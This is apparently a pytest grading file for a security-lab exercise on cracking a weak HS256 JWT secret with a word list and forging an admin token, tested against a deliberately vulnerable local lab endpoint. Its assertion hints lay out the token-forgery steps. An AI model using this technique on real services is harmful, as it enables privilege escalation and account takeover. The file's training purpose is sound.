"""Checks for exercise 13: crack a weak HS256 secret, then mint an admin token."""

import base64
import hashlib
import hmac
import json
import random
import warnings

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from jwt.warnings import InsecureKeyLengthWarning

from labserver.experiments.attacks import words

NOW = 1_800_000_000
CLAIMS = {
    "iss": "http://lab",
    "aud": "lab-api",
    "sub": "bob",
    "roles": ["user"],
    "iat": NOW - 60,
    "exp": NOW + 240,
    "jti": "j1",
}


def hs256(claims, secret, **headers):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", InsecureKeyLengthWarning)
        return jwt.encode(claims, secret, algorithm="HS256", headers={"typ": "at+jwt", **headers})


def test_crack_finds_the_secret_in_the_word_list(impl):
    """crack() finds a word-list secret, wherever it is in the list."""
    wordlist = words()
    for secret in (wordlist[0], random.Random(13).choice(wordlist), wordlist[-1]):
        assert impl.crack(hs256(CLAIMS, secret), wordlist) == secret, (
            f"the token is signed with {secret!r}, which is in the list"
        )


def test_crack_returns_none_for_a_strong_secret(impl):
    """crack() returns None when no candidate signs the token."""
    assert impl.crack(hs256(CLAIMS, "k" * 40 + "not-in-the-list"), words()) is None, (
        "no word matches: return None, do not guess"
    )


def test_crack_judges_the_signature_not_the_claims(impl):
    """crack() works on expired tokens and other audiences (it checks the signature only)."""
    stale = hs256({**CLAIMS, "exp": 1000, "aud": "someone-else"}, "changeme")
    assert impl.crack(stale, ["secret", "changeme"]) == "changeme", (
        "only the HMAC matters: do not call jwt.decode with verification (it would reject an "
        "expired token)"
    )


def test_crack_needs_the_exact_signing_input(impl):
    """crack() recomputes the HMAC over the token's own first two parts, byte for byte."""
    header = base64.urlsafe_b64encode(b'{"alg":"HS256" , "typ":"JWT"}').rstrip(b"=").decode()
    payload = base64.urlsafe_b64encode(json.dumps(CLAIMS, indent=2).encode()).rstrip(b"=").decode()
    signature = (
        base64.urlsafe_b64encode(
            hmac.new(b"letmein", f"{header}.{payload}".encode(), hashlib.sha256).digest()
        )
        .rstrip(b"=")
        .decode()
    )
    assert impl.crack(f"{header}.{payload}.{signature}", ["password", "letmein"]) == "letmein", (
        "HMAC the token's own text before the last dot; never re-encode the JSON"
    )


def _relabelled(alg, secret):
    """A token whose header says ``alg`` but whose signature is HMAC-SHA256 with ``secret``."""
    header = base64.urlsafe_b64encode(('{"alg":"%s"}' % alg).encode()).rstrip(b"=").decode()
    payload = base64.urlsafe_b64encode(json.dumps(CLAIMS).encode()).rstrip(b"=").decode()
    signing_input = f"{header}.{payload}"
    signature = base64.urlsafe_b64encode(
        hmac.new(secret.encode(), signing_input.encode(), hashlib.sha256).digest()
    )
    return f"{signing_input}.{signature.rstrip(b'=').decode()}"


def test_crack_only_cracks_hs256(impl):
    """crack() returns None unless the header says HS256 (HS512 or none is another lock)."""
    for alg in ("HS512", "none", "RS256"):
        assert impl.crack(_relabelled(alg, "changeme"), ["changeme"]) is None, (
            f"the header says {alg}: a server would not check this with HMAC-SHA256; read the "
            f"header first"
        )
    es = jwt.encode(CLAIMS, ec.generate_private_key(ec.SECP256R1()), algorithm="ES256")
    assert impl.crack(es, words()) is None, "an ES256 signature is not an HMAC: return None"


@pytest.mark.parametrize("garbage", ["", "not a token", "a.b", "!!.??.##"])
def test_crack_returns_none_for_garbage(impl, garbage):
    """crack() returns None (never raises) for text that is not a token."""
    assert impl.crack(garbage, ["changeme"]) is None, (
        "catch jwt.InvalidTokenError (and ValueError from base64) and return None"
    )


def test_mint_admin_signs_with_the_secret_and_claims_admin(impl):
    """mint_admin() makes an HS256 token with roles ["admin"], signed with the secret."""
    forged = impl.mint_admin(hs256(CLAIMS, "changeme"), "changeme", NOW + 1000)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", InsecureKeyLengthWarning)
        claims = jwt.decode(
            forged,
            "changeme",
            algorithms=["HS256"],
            audience="lab-api",
            options={"verify_exp": False, "verify_iat": False},
        )
    assert claims["roles"] == ["admin"], "set roles to ['admin']"
    assert claims["sub"] == "bob" and claims["iss"] == CLAIMS["iss"] and claims["jti"] == "j1", (
        "keep every other claim as it was"
    )


def test_mint_admin_makes_the_token_fresh(impl):
    """mint_admin() sets iat to now and exp to now + 300, as ints."""
    forged = impl.mint_admin(hs256(CLAIMS, "changeme"), "changeme", NOW + 1000.7)
    claims = jwt.decode(forged, options={"verify_signature": False})
    assert (claims["iat"], claims["exp"]) == (NOW + 1000, NOW + 1300), (
        "iat = int(now), exp = int(now) + 300"
    )
    assert type(claims["exp"]) is int, "exp must be an int"


def test_mint_admin_keeps_the_header(impl):
    """mint_admin() keeps typ and kid from the original header."""
    forged = impl.mint_admin(hs256(CLAIMS, "changeme", kid="weak-1"), "changeme", NOW)
    header = jwt.get_unverified_header(forged)
    assert header["alg"] == "HS256" and header["typ"] == "at+jwt" and header["kid"] == "weak-1", (
        "pass headers={'typ': ..., 'kid': ...} to jwt.encode"
    )


def test_the_forgery_works_against_the_weak_endpoint(impl):
    """Against a live lab: crack its weak token, mint an admin token the weak endpoint accepts."""
    from labserver import start_lab
    from labserver.users import PASSWORDS

    lab = start_lab(vulnerable=True, replace=False, redis_url="")
    try:
        http = lab.client()
        weak = http.post(
            "/vulnerable/weak-secret/token", json={"username": "bob", "password": PASSWORDS["bob"]}
        ).json()["access_token"]
        secret = impl.crack(weak, words())
        assert secret is not None, "the lab's weak secret is in the word list"
        forged = impl.mint_admin(weak, secret, lab.clock.now())
        answer = http.get(
            "/vulnerable/weak-secret/me", headers={"Authorization": f"Bearer {forged}"}
        )
        assert answer.status_code == 200 and answer.json()["roles"] == ["admin"], answer.text
    finally:
        lab.stop()
